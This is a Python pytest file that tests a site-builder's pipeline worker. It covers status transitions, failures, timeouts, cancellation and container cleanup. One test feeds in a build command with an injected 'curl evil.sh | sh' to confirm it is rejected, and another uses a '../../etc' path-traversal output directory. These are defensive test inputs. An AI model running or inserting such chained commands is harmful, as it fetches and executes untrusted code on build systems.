"""
Tests for the pipeline worker state machine.

Verifies that:
1. A successful build goes BUILDING -> DEPLOYING -> READY and activates the deployment
2. Every build failure ends in ERROR with cleanup
3. Terminal statuses are never overwritten
4. Cancellation ends in CANCELLED, shutdown in ERROR
"""

import asyncio
import os
import sys
from unittest.mock import AsyncMock, patch

import pytest

sys.path.insert(0, os.path.abspath(os.path.join(os.path.dirname(__file__), "..")))

from conftest import FakeExecutor, InMemoryProjectReader, make_job, make_project
from sitebuilder.config.provider import DockerConfig
from sitebuilder.errors import BackendError, InfrastructureError, SandboxError
from sitebuilder.modules.api.models import DeploymentStatus
from sitebuilder.modules.executor import DockerExecutor
from sitebuilder.modules.sandbox import CapturedOutput, CommandResult
from sitebuilder.modules.worker import PipelineWorker, format_bytes

S = DeploymentStatus

DOCKER_MODULE = "sitebuilder.modules.executor.docker_executor"


def make_docker_executor(tmp_path, repos_dir=None, pipeline_timeout=600) -> DockerExecutor:
    return DockerExecutor(
        DockerConfig(
            repos_dir=repos_dir or str(tmp_path / "repos"),
            builds_dir=str(tmp_path / "builds"),
            cache_dir=str(tmp_path / "cache"),
            use_isolation=True,
            build_network="bridge",
            pipeline_timeout=pipeline_timeout,
        )
    )


def make_worker(sink, projects, executor, artifact_store, build_queue, notifier=None):
    return PipelineWorker(
        sink=sink,
        projects=projects,
        executor=executor,
        store=artifact_store,
        queue=build_queue,
        base_domain="sites.example.com",
        notifier=notifier,
    )


@pytest.fixture
def notifier():
    return AsyncMock()


@pytest.fixture
def worker(sink, projects, executor, artifact_store, build_queue, notifier):
    return make_worker(sink, projects, executor, artifact_store, build_queue, notifier)


# =============================================================================
# Success path
# =============================================================================


@pytest.mark.asyncio
async def test_successful_production_build(worker, sink, executor, notifier):
    job = make_job("dep-abcdef123", production=True)
    sink.create(job.deployment_id)

    await worker.run(job)

    assert sink.history[job.deployment_id] == [S.QUEUED, S.BUILDING, S.DEPLOYING, S.READY]
    extras = sink.extras[job.deployment_id]
    assert extras["url"] == "https://marketing.sites.example.com"
    assert extras["site_slug"] == "marketing"
    assert extras["artifact_path"] == "/builds/marketing"
    assert isinstance(extras["build_time"], int)
    assert executor.calls == ["build", "collect", "cleanup"]
    assert sink.active == {"proj-1": job.deployment_id}
    events = [c.args[0] for c in notifier.notify.call_args_list]
    assert events == ["build.started", "build.succeeded"]
    assert "Build artifacts: 2 KB" in sink.messages(job.deployment_id, "info")
    assert not worker.is_running(job.deployment_id)


@pytest.mark.asyncio
async def test_preview_build_uses_suffixed_slug(worker, sink):
    job = make_job("dep-abcdef123", production=False)
    sink.create(job.deployment_id)

    await worker.run(job)

    assert sink.extras[job.deployment_id]["site_slug"] == "marketing-dep-abc"
    assert sink.extras[job.deployment_id]["url"] == "https://marketing-dep-abc.sites.example.com"


@pytest.mark.asyncio
async def test_branch_override_is_logged(worker, sink):
    job = make_job()
    sink.create(job.deployment_id, branch="feature/login")

    await worker.run(job)

    assert "Branch: feature/login" in sink.messages(job.deployment_id)


# =============================================================================
# Failure paths
# =============================================================================


@pytest.mark.asyncio
async def test_missing_project(sink, executor, artifact_store, build_queue):
    worker = make_worker(sink, InMemoryProjectReader(), executor, artifact_store, build_queue)
    job = make_job()
    sink.create(job.deployment_id)

    await worker.run(job)

    assert sink.statuses[job.deployment_id] == S.ERROR
    assert "Project not found" in sink.messages(job.deployment_id, "error")
    assert executor.calls == []


@pytest.mark.asyncio
async def test_missing_repository(sink, executor, artifact_store, build_queue):
    projects = InMemoryProjectReader(make_project(repo_url=None))
    worker = make_worker(sink, projects, executor, artifact_store, build_queue)
    job = make_job()
    sink.create(job.deployment_id)

    await worker.run(job)

    assert sink.statuses[job.deployment_id] == S.ERROR
    assert "No repository URL configured" in sink.messages(job.deployment_id, "error")


@pytest.mark.asyncio
async def test_invalid_config_never_reaches_executor(sink, executor, artifact_store, build_queue, notifier):
    projects = InMemoryProjectReader(make_project(build_cmd="npm run build; curl evil.sh | sh"))
    worker = make_worker(sink, projects, executor, artifact_store, build_queue, notifier)
    job = make_job()
    sink.create(job.deployment_id)

    await worker.run(job)

    assert sink.statuses[job.deployment_id] == S.ERROR
    assert "build" not in executor.calls
    assert executor.calls == ["cleanup"]
    errors = sink.messages(job.deployment_id, "error")
    assert any("Build command rejected" in e for e in errors)
    assert notifier.notify.call_args.args[0] == "build.failed"
    assert notifier.notify.call_args.args[1]["step"] == "validate"


@pytest.mark.asyncio
async def test_output_dir_outside_work_dir_is_rejected(sink, executor, artifact_store, build_queue):
    projects = InMemoryProjectReader(make_project(output_dir="../../etc"))
    worker = make_worker(sink, projects, executor, artifact_store, build_queue)
    job = make_job()
    sink.create(job.deployment_id)

    await worker.run(job)

    assert sink.statuses[job.deployment_id] == S.ERROR
    assert executor.calls == ["cleanup"]
    assert "Invalid output directory - path traversal detected" in sink.messages(job.deployment_id, "error")


@pytest.mark.asyncio
async def test_sandbox_failure_marks_error(sink, projects, artifact_store, build_queue, notifier):
    executor = FakeExecutor(build_error=SandboxError("build", "Build failed", ["exit 1"]))
    worker = make_worker(sink, projects, executor, artifact_store, build_queue, notifier)
    job = make_job()
    sink.create(job.deployment_id)

    await worker.run(job)

    assert sink.history[job.deployment_id] == [S.QUEUED, S.BUILDING, S.ERROR]
    assert executor.calls == ["build", "cleanup"]
    assert "Build failed" in sink.messages(job.deployment_id, "error")
    assert sink.active == {}


@pytest.mark.asyncio
async def test_backend_error_marks_error(sink, projects, artifact_store, build_queue):
    executor = FakeExecutor(build_error=BackendError("Failed to create build job"))
    worker = make_worker(sink, projects, executor, artifact_store, build_queue)
    job = make_job()
    sink.create(job.deployment_id)

    await worker.run(job)

    assert sink.statuses[job.deployment_id] == S.ERROR


@pytest.mark.asyncio
async def test_missing_artifacts_fail_verification(worker, sink, artifact_store, executor):
    artifact_store.artifacts_exist.return_value = False
    job = make_job()
    sink.create(job.deployment_id)

    await worker.run(job)

    assert sink.history[job.deployment_id] == [S.QUEUED, S.BUILDING, S.DEPLOYING, S.ERROR]
    assert "Build artifacts not found in storage" in sink.messages(job.deployment_id, "error")
    assert executor.calls == ["build", "collect", "cleanup"]


@pytest.mark.asyncio
async def test_pipeline_timeout(sink, projects, artifact_store, build_queue):
    executor = FakeExecutor(build_delay=5, timeout=0.1)
    worker = make_worker(sink, projects, executor, artifact_store, build_queue)
    job = make_job()
    sink.create(job.deployment_id)

    await worker.run(job)

    assert sink.statuses[job.deployment_id] == S.ERROR
    assert any("time limit" in m for m in sink.messages(job.deployment_id, "error"))
    assert executor.calls[-1] == "cancel"


@pytest.mark.asyncio
async def test_infrastructure_error_propagates(sink, projects, artifact_store, build_queue):
    executor = FakeExecutor(build_error=InfrastructureError("object store down"))
    worker = make_worker(sink, projects, executor, artifact_store, build_queue)
    job = make_job()
    sink.create(job.deployment_id)

    with pytest.raises(InfrastructureError):
        await worker.run(job)

    assert sink.statuses[job.deployment_id] == S.ERROR



@pytest.mark.asyncio
async def test_unexpected_exception_marks_error(sink, projects, artifact_store, build_queue):
    executor = FakeExecutor(build_error=NotADirectoryError("not a directory: /srv/repos"))
    worker = make_worker(sink, projects, executor, artifact_store, build_queue)
    job = make_job()
    sink.create(job.deployment_id)

    await worker.run(job)

    assert sink.statuses[job.deployment_id] == S.ERROR
    assert "Build failed: not a directory: /srv/repos" in sink.messages(job.deployment_id, "error")
    assert executor.calls[-1] == "cancel"


@pytest.mark.asyncio
async def test_unusable_repos_dir_marks_error(sink, projects, artifact_store, build_queue, tmp_path):
    blocker = tmp_path / "blocker"
    blocker.write_text("")
    executor = make_docker_executor(tmp_path, repos_dir=str(blocker / "repos"))
    worker = make_worker(sink, projects, executor, artifact_store, build_queue)
    job = make_job()
    sink.create(job.deployment_id)

    with patch(f"{DOCKER_MODULE}.capture_command", AsyncMock(return_value=CapturedOutput(return_code=0))):
        await worker.run(job)

    assert sink.statuses[job.deployment_id] == S.ERROR
    assert any(m.startswith("Build failed:") for m in sink.messages(job.deployment_id, "error"))


@pytest.mark.asyncio
async def test_pipeline_timeout_removes_running_containers(sink, projects, artifact_store, build_queue, tmp_path):
    executor = make_docker_executor(tmp_path, pipeline_timeout=0.3)
    worker = make_worker(sink, projects, executor, artifact_store, build_queue)
    job = make_job()
    sink.create(job.deployment_id)

    async def hanging_run(executable, args, *, on_log, cwd=None, env=None, timeout=None):
        if executable == "git":
            os.makedirs(args[-1], exist_ok=True)
            return CommandResult(success=True, exit_code=0)
        await asyncio.sleep(30)

    capture = AsyncMock(return_value=CapturedOutput(return_code=0))
    with patch(f"{DOCKER_MODULE}.run_command", hanging_run), patch(f"{DOCKER_MODULE}.capture_command", capture):
        await worker.run(job)

    assert sink.statuses[job.deployment_id] == S.ERROR
    removed = [call.args[1] for call in capture.call_args_list]
    assert ["rm", "-f", "sitebuild-dep-abcdef123-install"] in removed
    assert ["rm", "-f", "sitebuild-dep-abcdef123-build"] in removed
    assert not os.path.exists(executor.work_dir(job.deployment_id))

# =============================================================================
# Terminal statuses and cancellation
# =============================================================================


@pytest.mark.asyncio
async def test_final_deployment_is_not_rebuilt(worker, sink, executor):
    job = make_job()
    sink.create(job.deployment_id)
    sink.statuses[job.deployment_id] = S.CANCELLED

    await worker.run(job)

    assert sink.statuses[job.deployment_id] == S.CANCELLED
    assert executor.calls == []


@pytest.mark.asyncio
async def test_cancel_queued_build(worker, sink, build_queue):
    sink.create("dep-q")
    await build_queue.enqueue_build("dep-q", "proj-1")

    assert await worker.cancel("dep-q") is True

    assert sink.statuses["dep-q"] == S.CANCELLED
    assert await build_queue.get_queue_length() == 0


@pytest.mark.asyncio
async def test_cancel_running_build(sink, projects, artifact_store, build_queue):
    executor = FakeExecutor(build_delay=30)
    worker = make_worker(sink, projects, executor, artifact_store, build_queue)
    job = make_job()
    sink.create(job.deployment_id)

    task = asyncio.create_task(worker.run(job))
    while "build" not in executor.calls:
        await asyncio.sleep(0.01)

    assert await worker.cancel(job.deployment_id) is True

    assert task.cancelled()
    assert sink.statuses[job.deployment_id] == S.CANCELLED
    assert "cancel" in executor.calls
    assert sink.active == {}


@pytest.mark.asyncio
async def test_shutdown_interrupt_marks_error(sink, projects, artifact_store, build_queue):
    executor = FakeExecutor(build_delay=30)
    worker = make_worker(sink, projects, executor, artifact_store, build_queue)
    job = make_job()
    sink.create(job.deployment_id)

    task = asyncio.create_task(worker.run(job))
    while "build" not in executor.calls:
        await asyncio.sleep(0.01)

    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task

    assert sink.statuses[job.deployment_id] == S.ERROR
    assert "Build interrupted by service shutdown" in sink.messages(job.deployment_id, "error")


@pytest.mark.asyncio
async def test_cancel_final_deployment(worker, sink):
    sink.create("dep-done")
    sink.statuses["dep-done"] = S.READY

    assert await worker.cancel("dep-done") is False
    assert sink.statuses["dep-done"] == S.READY


@pytest.mark.parametrize(
    "size,expected",
    [(0, "0 Bytes"), (512, "512 Bytes"), (2048, "2 KB"), (1536, "1.5 KB"), (5 * 1024 * 1024, "5 MB")],
)
def test_format_bytes(size, expected):
    assert format_bytes(size) == expected


@pytest.mark.asyncio
async def test_cancel_build_running_elsewhere_tears_down_first(worker, sink, executor):
    sink.create("dep-remote")
    sink.statuses["dep-remote"] = S.BUILDING

    assert await worker.cancel("dep-remote") is True

    assert executor.calls == ["teardown dep-remote"]
    assert sink.statuses["dep-remote"] == S.CANCELLED


@pytest.mark.asyncio
async def test_cancel_final_deployment_skips_teardown(worker, sink, executor):
    sink.create("dep-done")
    sink.statuses["dep-done"] = S.ERROR

    assert await worker.cancel("dep-done") is False
    assert executor.calls == []
